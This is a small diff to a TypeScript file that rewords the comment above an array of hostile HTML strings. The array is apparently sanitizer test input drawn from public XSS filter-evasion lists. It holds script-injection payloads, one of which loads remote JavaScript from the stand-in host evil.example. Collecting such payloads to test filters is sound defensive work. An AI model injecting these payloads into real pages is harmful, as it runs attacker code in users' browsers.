@@ -1,4 +1,4 @@
-/** Of public lists of filter evasions: each runs script somewhere, or did. */
+/** Comes from public lists of filter evasions: each runs script somewhere, or did. */
 export const hostileHtml: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
